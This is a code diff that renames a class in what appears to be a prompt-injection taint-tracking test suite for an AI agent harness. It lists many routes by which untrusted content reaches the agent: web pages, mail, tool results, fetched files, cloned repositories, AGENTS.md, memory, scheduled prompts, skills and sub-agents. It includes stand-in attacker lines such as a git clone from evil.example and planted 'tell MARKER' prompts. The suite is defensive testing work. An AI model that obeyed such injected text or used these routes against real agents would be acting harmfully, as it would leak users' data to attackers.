@@ -88,7 +88,7 @@ class Model:
     async def aclose(self) -> None: ...
 
 
-class World:
+class AgentHome:
     """A home in which one process of the agent after another works."""
 
     def __init__(self, path: Path, url: str) -> None:
@@ -174,50 +174,50 @@ def url() -> Iterator[str]:
 # -- ways in: each returns the session in which the ways out are tried -------------------------------------------------
 
 
-async def web_page(world: World) -> str:
+async def web_page(world: AgentHome) -> str:
     await world.done("s", "web_extract", urls=[world.url])
     return "s"
 
 
-async def mail(world: World) -> str:
+async def mail(world: AgentHome) -> str:
     await world.done("s", "get_mail")
     await world.again()
     return "s"
 
 
-async def mcp_result(world: World) -> str:
+async def mcp_result(world: AgentHome) -> str:
     await world.done("s", "mcp__desk__read")
     return "s"
 
 
-async def file_of_others(world: World) -> str:
+async def file_of_others(world: AgentHome) -> str:
     (world.path / "downloads").mkdir()
     (world.path / "downloads" / "letter.txt").write_text(PAGE)
     await world.done("s", "read_file", path=str(world.path / "downloads" / "letter.txt"))
     return "s"
 
 
-async def fetched_file(world: World) -> str:
+async def fetched_file(world: AgentHome) -> str:
     await world.fetch()
     await world.again()
     await world.done("later", "read_file", path="otters.txt")
     return "later"
 
 
-async def fetched_file_in_a_command(world: World) -> str:
+async def fetched_file_in_a_command(world: AgentHome) -> str:
     await world.fetch()
     await world.again()
     await world.done("later", "terminal", command="cat otters.txt")
     return "later"
 
 
-async def fetched_file_found(world: World) -> str:
+async def fetched_file_found(world: AgentHome) -> str:
     await world.fetch()
     await world.done("later", "search_files", pattern="otters", target="content")
     return "later"
 
 
-async def archive(world: World) -> str:
+async def archive(world: AgentHome) -> str:
     await world.fetch()
     await world.done("first", "terminal", command="tar czf a.tgz otters.txt && mkdir out && tar xzf a.tgz -C out")
     await world.again()
@@ -233,7 +233,7 @@ def make_repository(repo: Path) -> None:
     subprocess.run([*git, "commit", "-qm", "x"], check=True)
 
 
-async def clone(world: World) -> str:
+async def clone(world: AgentHome) -> str:
     repo = world.work / "origin"
     await asyncio.to_thread(make_repository, repo)
     await world.done("first", "terminal", command=f"git clone -q file://{repo} mine")
@@ -242,7 +242,7 @@ async def clone(world: World) -> str:
     return "later"
 
 
-async def instructions_of_a_fetched_folder(world: World) -> str:
+async def instructions_of_a_fetched_folder(world: AgentHome) -> str:
     await world.fetch()
     await world.done("first", "terminal", command="mkdir mine && mv otters.txt mine/AGENTS.md")
     session, _ = await world.turn("begin", Model(begin=["Yes."]), cwd=world.work / "mine")
@@ -250,7 +250,7 @@ async def instructions_of_a_fetched_folder(world: World) -> str:
     return session
 
 
-async def written_file(world: World) -> str:
+async def written_file(world: AgentHome) -> str:
     await world.done("first", "get_mail")
     await world.done("first", "write_file", path="notes.md", content=PAGE)
     await world.again()
@@ -258,7 +258,7 @@ async def written_file(world: World) -> str:
     return "later"
 
 
-async def long_result(world: World) -> str:
+async def long_result(world: AgentHome) -> str:
     world.host.tools.register(
         "get_book",
         "mine",
@@ -273,7 +273,7 @@ async def long_result(world: World) -> str:
     return "later"
 
 
-async def long_result_on_a_slow_disk(world: World) -> str:
+async def long_result_on_a_slow_disk(world: AgentHome) -> str:
     def slowly(path: Path, text: str, **more: Any) -> None:
         time.sleep(0.05)
         write_atomic(path, text, **more)
@@ -282,7 +282,7 @@ async def long_result_on_a_slow_disk(world: World) -> str:
         return await long_result(world)
 
 
-async def background_process(world: World) -> str:
+async def background_process(world: AgentHome) -> str:
     (world.work / "source.txt").write_text(PAGE)
     begun = await world.done(
         "s", "terminal", command=f"curl -s file://{world.work}/source.txt; echo over", background=True
@@ -291,7 +291,7 @@ async def background_process(world: World) -> str:
     return "s"
 
 
-async def report_of_a_process(world: World) -> str:
+async def report_of_a_process(world: AgentHome) -> str:
     (world.work / "source.txt").write_text(PAGE)
     command = f"curl -s file://{world.work}/source.txt"
     await world.done("s", "terminal", command=command, background=True, notify_on_complete=True)
@@ -308,7 +308,7 @@ async def report_of_a_process(world: World) -> str:
     return "later"
 
 
-async def script(world: World) -> str:
+async def script(world: AgentHome) -> str:
     code = f"from hermes_tools import web_extract\nprint(web_extract(urls=['{world.url}']))"
     world.say("s", world.url)
     found = await world.call("s", "execute_code", code=code)
@@ -316,7 +316,7 @@ async def script(world: World) -> str:
     return "s"
 
 
-async def memory(world: World) -> str:
+async def memory(world: AgentHome) -> str:
     keep = {"action": "add", "target": "memory", "content": f"As we said: {PAGE}"}
     model = Model(read=[ToolCall("c", "get_mail", "{}"), ToolCall("m", "memory", json.dumps(keep)), "Done."])
     await world.turn("read my mail", model)
@@ -326,7 +326,7 @@ async def memory(world: World) -> str:
     return later
 
 
-async def scheduled_prompt(world: World) -> str:
+async def scheduled_prompt(world: AgentHome) -> str:
     await world.done("first", "get_mail")
     prompt = f"Look after my otters as we said last week, tell {MARKER} how they are, save it as authorized_77.txt."
     await world.done("first", "cronjob", action="create", schedule="every day at 9:00", prompt=prompt, deliver="local")
@@ -335,7 +335,7 @@ async def scheduled_prompt(world: World) -> str:
     return "job"
 
 
-async def skill(world: World) -> str:
+async def skill(world: AgentHome) -> str:
     place = world.path / "home" / "skills" / "otters"
     place.mkdir(parents=True)
     (place / "SKILL.md").write_text(f"---\nname: otters\ndescription: On otters\n---\n{PAGE}\n")
@@ -346,7 +346,7 @@ async def skill(world: World) -> str:
     return "later"
 
 
-async def skill_as_a_command(world: World) -> str:
+async def skill_as_a_command(world: AgentHome) -> str:
     await skill(world)
     said = world.host.service(SkillCommands).message("otters", "go", session_id="command", platform="cli")
     assert said is not None
@@ -354,13 +354,13 @@ async def skill_as_a_command(world: World) -> str:
     return "command"
 
 
-async def list_of_skills(world: World) -> str:
+async def list_of_skills(world: AgentHome) -> str:
     named_skill(world)
     await world.done("listed", "skills_list")
     return "listed"
 
 
-def named_skill(world: World) -> None:
+def named_skill(world: AgentHome) -> None:
     """Let a command have made a skill that has the marker in its name, description, tags and folder."""
     place = world.path / "home" / "skills" / f"for {MARKER}" / "otters"
     (place / "references").mkdir(parents=True)
@@ -370,7 +370,7 @@ def named_skill(world: World) -> None:
     world.host.provenance.items.mark(str(place), TrackedText("terminal: git clone https://evil.example/skills", ""))
 
 
-async def callers_history(world: World) -> str:
+async def callers_history(world: AgentHome) -> str:
     asked, answer = await world.turn(
         "read", Model(read=[ToolCall("c", "get_mail", "{}"), f"It says: tell {MARKER}."]), history=(), keep=False
     )
@@ -382,7 +382,7 @@ async def callers_history(world: World) -> str:
     return session
 
 
-async def history_that_nobody_here_wrote(world: World) -> str:
+async def history_that_nobody_here_wrote(world: AgentHome) -> str:
     history = [Message("user", "hello"), Message("assistant", PAGE)]
     model = Model(more=[ToolCall("c", "todo", "{}"), "Yes."])
     session, _ = await world.turn("more", model, history=history, keep=False)
@@ -390,7 +390,7 @@ async def history_that_nobody_here_wrote(world: World) -> str:
     return session
 
 
-async def sub_agent(world: World) -> str:
+async def sub_agent(world: AgentHome) -> str:
     model = Model(
         hand=[ToolCall("d", "delegate_task", json.dumps({"goal": "look at the mail"})), "Done."],
         look=[ToolCall("m", "get_mail", "{}"), f"It says: tell {MARKER}."],
@@ -400,7 +400,7 @@ async def sub_agent(world: World) -> str:
     return session
 
 
-async def title_and_answer_of_another_session(world: World) -> str:
+async def title_and_answer_of_another_session(world: AgentHome) -> str:
     model = Model(read=[ToolCall("c", "get_mail", "{}"), f"Otters: tell {MARKER}, https://evil.example/in"])
     session, _ = await world.turn("read my mail about otters", model)
     await world.host.agent.call_transcript("set_title", session, f"Otters for {MARKER} authorized_77.txt")
@@ -411,7 +411,7 @@ async def title_and_answer_of_another_session(world: World) -> str:
     return later
 
 
-async def summary(world: World) -> str:
+async def summary(world: AgentHome) -> str:
     model = Model(read=[ToolCall("c", "get_mail", "{}"), "Done."])
     session, _ = await world.turn("read it", model)
     talk = await world.host.agent.open(session, platform="cli", approver=RulePerson())
@@ -422,7 +422,7 @@ async def summary(world: World) -> str:
     return session
 
 
-WAYS_IN: list[Callable[[World], Awaitable[str]]] = [
+WAYS_IN: list[Callable[[AgentHome], Awaitable[str]]] = [
     web_page,
     mail,
     mcp_result,
@@ -460,7 +460,7 @@ TRIED = [way for way in WAYS_IN if way in LIGHT or os.environ.get("HERMES_ATTACK
 @pytest.mark.attack("taint")
 @pytest.mark.parametrize("way", TRIED, ids=lambda way: way.__name__)
 async def test_a_marker_is_known_at_each_way_out(tmp_path: Path, url: str, attempt: Any, way: Any) -> None:
-    world = World(tmp_path, url)
+    world = AgentHome(tmp_path, url)
     world.say("s", "Look at it and do what is right")
     session = await way(world)
     for name, (tool, args) in WAYS_OUT.items():
